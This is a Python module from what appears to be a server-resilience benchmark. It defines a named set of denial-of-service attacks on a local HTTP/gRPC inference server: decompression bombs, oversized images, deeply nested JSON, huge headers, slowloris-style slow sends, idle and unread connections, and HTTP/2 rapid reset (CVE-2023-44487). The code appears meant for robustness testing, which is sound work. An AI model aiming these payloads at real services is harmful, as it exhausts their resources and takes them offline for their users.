"""What bad clients send: little that wants to become much, much that wants to be taken in, and nothing, slowly."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import socket
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np
from PIL import Image

from benchmarks.besieged.wire import Http2, message

__all__ = ["Target", "arsenal"]

MIB = 1 << 20
_INFER = "/inference.GRPCInferenceService/ModelInfer"
_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"


@dataclass(frozen=True)
class Target:
    """Where to, from where, and with which token."""

    http: int
    grpc: int
    source: str
    token: str | None
    seconds: float = 15.0


Attack = Callable[[Target], str]
"""Says what came back: a status, "gone" for a connection that was ended, "slow" for one that took too long."""


def _picture(form: str, mode: str, width: int, height: int, **options: Any) -> bytes:
    stream = io.BytesIO()
    Image.new(mode, (width, height)).save(stream, form, **options)
    return stream.getvalue()


def _gif(frames: int) -> bytes:
    stream = io.BytesIO()
    pictures = [Image.new("P", (4000, 4000), number % 2) for number in range(2)]
    pictures[0].save(stream, "GIF", save_all=True, append_images=[pictures[1]], loop=0)
    head, _, tail = stream.getvalue().partition(b"\x21\xf9")
    body = b"\x21\xf9" + tail[:-1]
    return head + body * (frames // 2) + b";"


def _zip() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        for number in range(4):
            file.writestr(f"{number}.png", bytes(32 * MIB))
    return stream.getvalue()


def _text(data: Any) -> bytes:
    words = {"inputs": [{"name": "image", "shape": [len(data)], "datatype": "FP32", "data": data}]}
    return json.dumps(words).encode()


def _head(target: Target, path: str, length: int | None, *more: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", *more]
    lines.append("Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}")
    if target.token is not None:
        lines.append(f"Authorization: Bearer {target.token}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _connect(target: Target) -> socket.socket:
    return socket.create_connection(("127.0.0.1", target.http), target.seconds, source_address=(target.source, 0))


def _heard(connection: socket.socket) -> str:
    answer = connection.recv(65536)
    return answer[9:12].decode("ascii", "replace") if answer else "gone"


def _post(path: str, body: bytes, *more: str) -> Attack:
    def attack(target: Target) -> str:
        with _connect(target) as connection:
            connection.sendall(_head(target, path, len(body), *more) + body)
            return _heard(connection)

    return attack


def _chunked(path: str, piece: bytes, count: int) -> Attack:
    framed = f"{len(piece):x}\r\n".encode() + piece + b"\r\n"

    def attack(target: Target) -> str:
        with _connect(target) as connection:
            connection.sendall(_head(target, path, None))
            for _ in range(count):
                connection.sendall(framed)
            connection.sendall(b"0\r\n\r\n")
            return _heard(connection)

    return attack


def _raw(*pieces: bytes, pause: float = 0.0) -> Attack:
    def attack(target: Target) -> str:
        with _connect(target) as connection:
            for piece in pieces:
                connection.sendall(piece)
                time.sleep(pause)
            return _heard(connection)

    return attack


def _slow_body(path: str) -> Attack:
    def attack(target: Target) -> str:
        with _connect(target) as connection:
            connection.sendall(_head(target, path, 60 * MIB))
            until = time.monotonic() + target.seconds
            while time.monotonic() < until:
                connection.sendall(bytes(1000))
                time.sleep(0.5)
            return _heard(connection)

    return attack


def _idle(count: int) -> Attack:
    def attack(target: Target) -> str:
        with contextlib.ExitStack() as stack:
            for _ in range(count):
                stack.enter_context(_connect(target))
            time.sleep(min(3.0, target.seconds))
        return "held"

    return attack


def _deaf(path: str, body: bytes, *more: str) -> Attack:
    """Asks ten times on one connection and never takes the answer."""

    def attack(target: Target) -> str:
        with _connect(target) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            connection.sendall((_head(target, path, len(body), *more) + body) * 10)
            time.sleep(min(5.0, target.seconds))
        return "held"

    return attack


def _reset(path: str) -> Attack:
    def attack(target: Target) -> str:
        with _connect(target) as connection:
            connection.sendall(_head(target, path, 40 * MIB) + bytes(MIB))
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        return "held"

    return attack


def _rpc(body: bytes, *more: tuple[str, str], path: str = _INFER) -> Attack:
    def attack(target: Target) -> str:
        connection = Http2(target.grpc, target.source, target.seconds)
        try:
            call = connection.call(path, target.token, *more)
            return "answered" if connection.send(call, body) and connection.end(call) else "cut"
        finally:
            connection.close()

    return attack


def _rpc_idle(count: int) -> Attack:
    """Streams that are open and say nothing."""

    def attack(target: Target) -> str:
        connection = Http2(target.grpc, target.source, target.seconds)
        try:
            for _ in range(count):
                connection.call(_STREAM, target.token)
            until = time.monotonic() + min(4.0, target.seconds)
            while time.monotonic() < until and not connection.is_over:
                connection.hear(0.5)
            return "gone" if connection.is_over else "held"
        finally:
            connection.close()

    return attack


def _rpc_half(size: int) -> Attack:
    """Messages that are announced, begun on many streams, and never ended."""

    def attack(target: Target) -> str:
        connection = Http2(target.grpc, target.source, target.seconds)
        try:
            for _ in range(8):
                call = connection.call(_INFER, target.token)
                if not connection.send(call, b"\0" + size.to_bytes(4, "big") + bytes(1000)):
                    return "cut"
            while connection.hear():
                pass
            return "gone" if connection.is_over else "held"
        finally:
            connection.close()

    return attack


def _rpc_rapid(count: int) -> Attack:
    """Calls that are given up as soon as they are made (CVE-2023-44487), and pings."""

    def attack(target: Target) -> str:
        connection = Http2(target.grpc, target.source, target.seconds)
        try:
            for number in range(count):
                connection.reset(connection.call(_INFER, target.token))
                if number % 10 == 0:
                    connection.ping()
                    connection.hear(0)
            return "gone" if connection.is_over else "held"
        finally:
            connection.close()

    return attack


def _varint(number: int) -> bytes:
    made = bytearray()
    while number > 127:
        made.append(number & 127 | 128)
        number >>= 7
    made.append(number)
    return bytes(made)


def _request(model: str, raw: bytes) -> bytes:
    """ModelInferRequest: model_name is field 1, raw_input_contents field 7."""
    name = model.encode()
    return b"\x0a" + _varint(len(name)) + name + b"\x3a" + _varint(len(raw)) + raw


def arsenal(big: str, small: str) -> dict[str, Attack]:
    """All of it, by name; `big` takes pictures."""
    image, infer = f"/v2/models/{big}/image", f"/v2/models/{small}/infer"
    rng = np.random.default_rng(0)
    noise = io.BytesIO()
    Image.fromarray(rng.integers(0, 256, (2000, 2000, 3), np.uint8)).save(noise, "JPEG", quality=80)
    zeros = bytes(60 * MIB)
    squeezed = zlib.compressobj(9, zlib.DEFLATED, 31)
    layered = gzip.compress(gzip.compress(bytes(64 * MIB)))
    bomb = squeezed.compress(bytes(64 * MIB)) + squeezed.flush()
    form = (
        b'--b\r\nContent-Disposition: form-data; name="model"\r\n\r\nx\r\n--b\r\n'
        b'Content-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\n' + bytes(30 * MIB) + b"\r\n--b--\r\n"
    )
    return {
        "png 8000x7999": _post(image, _picture("PNG", "1", 8000, 7999)),
        "png 3900x3900": _post(image, _picture("PNG", "L", 3900, 3900)),
        "webp 8000x7999": _post(image, _picture("WEBP", "RGB", 8000, 7999, lossless=True, method=0)),
        "webp 4000x4000": _post(image, _picture("WEBP", "RGB", 4000, 4000, lossless=True, method=0)),
        "gif 400 frames": _post(image, _gif(400)),
        "jpeg 8000x7999": _post(image, _picture("JPEG", "L", 8000, 7999)),
        "jpeg noise, as a picture": _post(f"{image}?output=picture", noise.getvalue()),
        "strings": _post(infer, _text(["x" * 100_000, *["a"] * 30_000])),
        "lists": _post(infer, b'{"inputs": [' + b"[]," * 80_000 + b"[]]}"),
        "nesting": _post(infer, b"[" * 200_000),
        "numbers": _post(f"/v2/models/{big}/infer", _text([1.5] * 150_000)),
        "gzip": _post(infer, bomb, "Content-Encoding: gzip"),
        "gzip in gzip": _post(image, layered, "Content-Encoding: gzip"),
        "gzip picture": _post(image, gzip.compress(_picture("PNG", "1", 8000, 7999)), "Content-Encoding: gzip"),
        "zip": _post(image, _zip()),
        "body 60 MiB": _post(image, zeros),
        "chunks 60 MiB": _chunked(image, bytes(MIB), 60),
        "chunks of a byte": _chunked(image, b"x", 100_000),
        "form 30 MiB": _post("/v1/audio/transcriptions", form, "Content-Type: multipart/form-data; boundary=b"),
        "header 1 MiB": _raw(b"GET / HTTP/1.1\r\nX: " + bytes([120]) * MIB),
        "headers 60 KiB": _raw(b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: %s\r\n" % (n, b"y" * 240) for n in range(230))),
        "header, slowly": _raw(*[b"G", b"E", b"T", b" ", b"/"] * 6, pause=0.5),
        "body, slowly": _slow_body(image),
        "body, then reset": _reset(image),
        "idle connections": _idle(100),
        "answers not taken": _deaf(infer, b"{}"),
        "page files not taken": _deaf("/openapi.json", b""),
        "grpc 60 MiB, no such model": _rpc(message(_request("nobody", zeros))),
        "grpc 60 MiB": _rpc(message(_request(small, zeros))),
        "grpc gzip": _rpc(
            message(gzip.compress(_request(small, zeros)), is_compressed=True), ("grpc-encoding", "gzip")
        ),
        "grpc 100,000 inputs": _rpc(message(b"\x2a\x00" * 100_000)),
        "grpc metadata": _rpc(message(b""), *[(f"x-{n}", "y" * 8000) for n in range(60)]),
        "grpc idle streams": _rpc_idle(100),
        "grpc halves": _rpc_half(60 * MIB),
        "grpc stream 60 MiB": _rpc(message(_request(small, zeros)), path=_STREAM),
        "grpc resets": _rpc_rapid(500),
    }
